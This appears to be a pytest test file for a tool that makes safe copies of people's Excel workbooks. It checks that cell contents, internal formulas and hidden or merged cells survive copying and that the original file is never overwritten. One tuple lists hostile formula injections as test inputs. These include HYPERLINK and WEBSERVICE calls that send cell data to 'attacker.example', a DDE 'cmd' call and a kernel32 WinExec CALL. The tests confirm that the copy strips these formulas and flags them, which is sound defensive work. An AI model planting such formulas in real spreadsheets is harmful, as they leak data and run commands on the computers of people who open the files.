"""Copies of people's workbooks: everything typed is there, at its own address, and the original is never written to."""

from __future__ import annotations

import datetime as dt
import hashlib
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings

from appraisal.options.workbook import examine
from appraisal.workbook import Book, InputFaults
from appraisal.workbook.book import cell_position, column_letters
from appraisal.workbook.copies.adding import Added
from appraisal.workbook.file.read import workbook_grids
from appraisal.workbook.reading.cell_parsers import is_blank
from appraisal.workbook.reading.raw import Raw
from appraisal.workbook.schema import EXAMPLE, START_HERE
from tests.workbook.builders import (
    Grids,
    grids_of,
    in_part,
    repacked,
    sheet_part,
    small_book,
    write_grids,
    written,
)
from tests.workbook.hostile import HOSTILE
from tests.workbook.ours import add_sheets, pages_of, write_marked
from tests.workbook.strategies import books, fits_xlsx


def cells_in(path: Path) -> dict[tuple[str, str], Raw]:
    """Return what stands in every cell of a workbook but its first sheet."""
    return {
        (grid.name, f"{column_letters(column)}{row + 1}"): raw
        for grid in workbook_grids(path)
        if grid.name != START_HERE
        for row, cells in enumerate(grid.rows)
        for column, raw in enumerate(cells)
        if not is_blank(raw)
    }


def formulas_in(path: Path) -> dict[tuple[str, str], str]:
    """Return the formulas of a workbook, without those that list the years of the period beside the form."""
    return {
        (grid.name, f"{column_letters(column)}{row + 1}"): grid.formulas[row, column]
        for grid in workbook_grids(path)
        for row, column in grid.formulas
        if grid.name != "About"
    }


def lost(original: Path, copy: Path) -> dict[tuple[str, str], Any]:
    """Return what stands otherwise in the copy than in the original, or not at all."""
    before, after = cells_in(original), cells_in(copy)
    return {place: (raw, after.get(place)) for place, raw in before.items() if after.get(place) != raw}


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def copied(source: Path, out: Path) -> Added:
    return add_sheets(source, [], out)


def shuffled(book: Book) -> Grids:
    """Return the book as somebody might lay it out: columns the other way round, headings in row 9, jottings about."""
    grids = grids_of(book)
    for name, (headings, *rows) in grids.items():
        if headings[0] == "Field":
            continue
        example = [EXAMPLE, *[None] * (len(headings) - 1)]
        table = [[None, *reversed(line), None, None] for line in (headings, example, *rows)]
        table[2:2] = [[None] * 3, [None] * 3]  # blank rows among the data
        above: list[list[Any]] = [[None] * 3 for _ in range(8)]
        above[0][1] = f"{name} of the working party"
        above[5][2] = 41.5
        table[1].append("not yet agreed")
        table[-1] += ["call Ann", dt.date(2026, 5, 4), 1250.75, True]
        table[0][-1] = "Our own remarks"
        grids[name] = [*above, *table, [None], ["checked by two people"]]
    return grids


def test_everything_typed_is_at_its_own_address_in_a_copy_however_it_was_laid_out(tmp_path: Path) -> None:
    source = write_grids(shuffled(small_book()), tmp_path / "mine.xlsx")
    copied(source, tmp_path / "copy.xlsx")
    assert len(cells_in(source)) > 400
    assert lost(source, tmp_path / "copy.xlsx") == {}
    assert examine(tmp_path / "copy.xlsx") == examine(source)


def test_a_page_knows_the_columns_the_heading_row_and_the_example_of_a_shuffled_sheet(tmp_path: Path) -> None:
    pages = pages_of(write_grids(shuffled(small_book()), tmp_path / "mine.xlsx"))
    costs = next(page for page in pages if page.title == "Costs")
    assert costs.heading_row == 8
    assert costs.example == 9
    assert costs.columns["id"] == max(costs.columns.values())
    assert costs.last_row > max(row for row, _ in costs.contents)


@pytest.mark.slow
@settings(max_examples=10, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(books().filter(fits_xlsx))
def test_a_copy_of_any_workbook_holds_what_the_workbook_holds(tmp_path: Path, book: Book) -> None:
    source = written(book, tmp_path / "source.xlsx")
    before = digest(source)
    (tmp_path / "copy.xlsx").unlink(missing_ok=True)  # of the book before: a copy is written over nothing
    copied(source, tmp_path / "copy.xlsx")
    assert lost(source, tmp_path / "copy.xlsx") == {}
    assert digest(source) == before


def test_a_copy_of_a_copy_is_the_same_file(tmp_path: Path) -> None:
    source = written(small_book(), tmp_path / "source.xlsx")
    one, two = tmp_path / "one" / "copy.xlsx", tmp_path / "two" / "copy.xlsx"
    for folder in (one.parent, two.parent):
        folder.mkdir()
    copied(source, one)
    copied(one, two)
    assert one.read_bytes() == two.read_bytes()


# Formulas.


def with_costs(path: Path, cells: Mapping[str, Any], book: Book | None = None) -> Path:
    """Write the small book with these cells of the Costs sheet; a pair is a formula with its result."""
    grids = grids_of(book or small_book())
    rows = grids["Costs"]
    for address, content in cells.items():
        row, column = cell_position(address)
        while len(rows) <= row:
            rows.append([])
        rows[row] += [None] * (column + 1 - len(rows[row]))
        rows[row][column] = content
    return write_grids(grids, path)


def test_a_sum_over_the_workbooks_own_cells_stays_a_formula(tmp_path: Path) -> None:
    kept = {
        "AE2": ("=SUM(F3:F4)*2", 1600.0),
        "AE3": ("=IF('Criteria'!A2=\"cost\",1,0)", 1.0),
        "AE4": ('=IF(B2="Staff","","no")', ""),
        "AE5": ("=ROUND($F$3/0,2)", "#DIV/0!"),
    }
    source = with_costs(tmp_path / "mine.xlsx", kept)
    added = copied(source, tmp_path / "copy.xlsx")
    assert formulas_in(tmp_path / "copy.xlsx") == formulas_in(source)
    assert len(formulas_in(source)) == 4
    assert lost(source, tmp_path / "copy.xlsx") == {}
    assert added.notes == ()


REACHING_OUT = (
    '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
    '=WEBSERVICE("https://attacker.example")',
    '=_xlfn.WEBSERVICE("https://attacker.example/"&B2)',
    '=IF(1,_xlfn.IMAGE("https://attacker.example/x.png"),2)',
    "=cmd|'/c calc'!A0",
    "='[other.xlsx]Costs'!A1",
    "=[1]Costs!A1",
    "=SUM('file:///C:/other.xlsx'#$Costs.A1)",
    """=INDIRECT("'file:///C:/other.xlsx'#$Costs.A1")""",
    '=IF(1,HYPERLINK("http://a.example/?"&B2,"x"),HYPERLINK("#A1","y"))',
    '=HYPERLINK("#"&"a.example","y")',
    "=_xlfn.MAP(B1:B2,_xlfn.WEBSERVICE)",
    '=REDUCE("",B1:B2,HYPERLINK)',
    '=CALL("kernel32","WinExec","JJC","calc",1)',
    "=_xll.OurAddIn(A1)",
    '=RTD("x.y",,"z")',
)
OF_THIS_WORKBOOK = (
    '=INDIRECT("A1")',
    "=Notes!A1",
    "=OurTotal*2",
    "=Table1[[#This Row],[Cost]]*2+Costs!A1",
    "=A1:INDEX(B:B,3)",
    "=SUM({1,2})",
    '=HYPERLINK("#Costs!A1","Go")',
    '="see [1]Costs!A1 | cmd://"',
    "=_xlfn.XLOOKUP(A1,B:B,C:C)",
    "='A [draft'!A1",
)


def test_formulas_that_reach_outside_give_way_to_their_results_and_are_said(tmp_path: Path) -> None:
    cells = {f"AE{row}": (formula, float(row)) for row, formula in enumerate(REACHING_OUT, 2)}
    source = with_costs(tmp_path / "mine.xlsx", cells)
    added = copied(source, tmp_path / "copy.xlsx")
    assert len(formulas_in(source)) == len(REACHING_OUT)
    assert formulas_in(tmp_path / "copy.xlsx") == {}
    assert lost(source, tmp_path / "copy.xlsx") == {}
    read = {cell: formula for (_, cell), formula in formulas_in(source).items()}
    assert {note.cell: note.found for note in added.notes} == {
        cell: f'the formula "{formula}"' for cell, formula in read.items()
    }
    costs = openpyxl.load_workbook(tmp_path / "copy.xlsx")["Costs"]
    for cell, formula in read.items():
        assert formula in costs[cell].comment.text


def test_a_formula_over_the_workbook_itself_stays_whatever_it_is_made_of(tmp_path: Path) -> None:
    cells = {f"AE{row}": (formula, float(row)) for row, formula in enumerate(OF_THIS_WORKBOOK, 2)}
    source = with_costs(tmp_path / "mine.xlsx", cells)
    added = copied(source, tmp_path / "copy.xlsx")
    assert formulas_in(tmp_path / "copy.xlsx") == formulas_in(source)
    assert added.notes == ()


def test_a_formula_over_several_cells_at_once_stays(tmp_path: Path) -> None:
    typed = with_costs(tmp_path / "typed.xlsx", {"AE2": ("=SUM(F3:F4*2)", 7.0)})
    part = sheet_part(grids_of(small_book()), "Costs")
    together = in_part(part, b"<f>SUM", b'<f t="array" ref="AE2">SUM')
    source = repacked(typed, tmp_path / "mine.xlsx", together)
    copied(source, tmp_path / "copy.xlsx")
    assert formulas_in(tmp_path / "copy.xlsx") == formulas_in(source) == {("Costs", "AE2"): "={SUM(F3:F4*2)}"}


def test_a_sheet_of_ones_own_stays_to_the_byte_and_our_cells_go_on_taking_from_it(tmp_path: Path) -> None:
    grids = grids_of(small_book()) | {"Workings": [["=A1", 3.0], [("=SUM(Costs!F2:F9)", 1.0)]]}
    grids["Costs"].append([None] * 30 + [("=Workings!B1*2", 6.0)])
    source = write_grids(grids, tmp_path / "mine.xlsx")
    part = sheet_part(grids, "Workings")
    for write in (
        lambda: add_sheets(source, ["gates"], tmp_path / "copy.xlsx"),
        lambda: write_marked(source, tmp_path / "copy.xlsx"),
    ):
        (tmp_path / "copy.xlsx").unlink(missing_ok=True)
        write()
        with zipfile.ZipFile(source) as before, zipfile.ZipFile(tmp_path / "copy.xlsx") as after:
            assert after.read(part) == before.read(part)
        assert formulas_in(tmp_path / "copy.xlsx") == formulas_in(source)


def test_a_formula_without_a_result_has_none_in_the_copy_and_an_error_stays_an_error(tmp_path: Path) -> None:
    errors = {"G3": ("=SUM(F9)/0", "#DIV/0!"), "G4": ("=GONE()", "#NAME?")}
    source = with_costs(tmp_path / "mine.xlsx", {"G2": ("=F3*2", ""), **errors})
    faults = {fault.cell: fault.code for fault in examine(source).faults}
    assert faults == {"G2": "formula-without-value", "G3": "formula-error", "G4": "formula-error"}
    copied(source, tmp_path / "copy.xlsx")
    assert {fault.cell: fault.code for fault in examine(tmp_path / "copy.xlsx").faults} == faults


def test_a_formula_that_reaches_outside_and_has_no_result_is_a_fault_in_the_copy_too(tmp_path: Path) -> None:
    source = with_costs(tmp_path / "mine.xlsx", {"G3": ("=_xll.GONE()", "")})
    copied(source, tmp_path / "copy.xlsx")
    (fault,) = examine(tmp_path / "copy.xlsx").faults
    assert (fault.cell, fault.code) == ("G3", "formula-error")


# What a spreadsheet shows otherwise.


def test_merged_and_hidden_cells_and_sheets_stay_so(tmp_path: Path) -> None:
    path = tmp_path / "mine.xlsx"
    write_grids(grids_of(small_book()), path)
    book = openpyxl.load_workbook(path)
    costs = book["Costs"]
    costs["AE1"], costs["AE2"] = "Ours", "two rows of notes"
    costs.merge_cells("AE2:AF3")
    costs.row_dimensions[3].hidden = True
    costs.column_dimensions["C"].hidden = True
    book["Risks"].sheet_state = "hidden"
    book.save(path)
    added = copied(path, tmp_path / "copy.xlsx")
    copy = openpyxl.load_workbook(tmp_path / "copy.xlsx")
    assert [str(area) for area in copy["Costs"].merged_cells.ranges] == ["AE2:AF3"]
    assert copy["Costs"].row_dimensions[3].hidden
    assert copy["Costs"].column_dimensions["C"].hidden
    assert copy["Risks"].sheet_state == "hidden"
    assert added.notes == ()


def test_dates_stay_dates_where_no_date_belongs_and_times_stay_times(tmp_path: Path) -> None:
    source = with_costs(tmp_path / "mine.xlsx", {"B2": dt.date(2026, 5, 4), "G3": dt.date(2010, 11, 1)})
    book = openpyxl.load_workbook(source)
    book["Costs"]["AE2"] = dt.time(8, 30)
    book.save(source)
    for write in (copied, write_marked):
        write(source, tmp_path / "copy.xlsx")
        assert lost(source, tmp_path / "copy.xlsx") == {}
        (tmp_path / "copy.xlsx").unlink()


def test_a_number_that_lost_its_date_format_does_not_become_a_date_in_a_copy(tmp_path: Path) -> None:
    grids = grids_of(small_book())
    grids["Plan"][1][1:3] = [46_143, ("=46000+143", 46_143.0)]
    source = write_grids(grids, tmp_path / "mine.xlsx")
    write_marked(source, tmp_path / "marked.xlsx")
    assert lost(source, tmp_path / "marked.xlsx") == {}
    assert [fault.cell for fault in examine(tmp_path / "marked.xlsx").faults] == ["B2", "C2"]


def test_hostile_texts_are_the_same_texts_in_a_copy_and_run_nowhere(tmp_path: Path) -> None:
    names = {f"B{row}": text for row, text in enumerate(HOSTILE.values(), 2)}
    jottings = {f"AE{row}": text for row, text in enumerate(HOSTILE.values(), 2)}
    source = with_costs(tmp_path / "mine.xlsx", {**names, **jottings})
    copied(source, tmp_path / "copy.xlsx")
    assert lost(source, tmp_path / "copy.xlsx") == {}
    costs = openpyxl.load_workbook(tmp_path / "copy.xlsx")["Costs"]
    assert {costs[cell].data_type for cell in (*names, *jottings)} == {"s"}
    assert not any(costs[cell].hyperlink for cell in (*names, *jottings))


def test_control_characters_and_escapes_of_the_file_format_come_through(tmp_path: Path) -> None:
    source = with_costs(tmp_path / "mine.xlsx", {"B2": "bell\x07 and _x0007_ and\r\nline", "AE2": "<r><t>rich</t></r>"})
    copied(source, tmp_path / "copy.xlsx")
    assert lost(source, tmp_path / "copy.xlsx") == {}


# The original.


def test_a_copy_is_never_written_over_the_original_by_whatever_name(tmp_path: Path) -> None:
    source = written(small_book(), tmp_path / "mine.xlsx")
    before = digest(source)
    (tmp_path / "linked.xlsx").hardlink_to(source)
    for out in (source, tmp_path / "." / "mine.xlsx", tmp_path / "linked.xlsx"):
        for write in (write_marked, copied):
            with pytest.raises(InputFaults) as refused:
                write(source, out)
            assert [fault.code for fault in refused.value.faults] == ["over-the-original"]
    assert digest(source) == before


def test_a_copy_that_cannot_be_written_is_one_sentence(tmp_path: Path) -> None:
    source = written(small_book(), tmp_path / "mine.xlsx")
    with pytest.raises(InputFaults) as refused:
        write_marked(source, tmp_path / "nowhere" / "copy.xlsx")
    assert [fault.code for fault in refused.value.faults] == ["not-writable"]
    assert "open in Excel" in str(refused.value)
    assert not (tmp_path / "nowhere").exists()


def test_a_file_that_cannot_be_used_is_refused_as_it_is_by_the_check(tmp_path: Path) -> None:
    (tmp_path / "not.xlsx").write_text("<html>", encoding="utf-8")
    for write in (write_marked, copied):
        with pytest.raises(InputFaults) as refused:
            write(tmp_path / "not.xlsx", tmp_path / "out.xlsx")
        assert refused.value.faults == examine(tmp_path / "not.xlsx").faults
    assert not (tmp_path / "out.xlsx").exists()
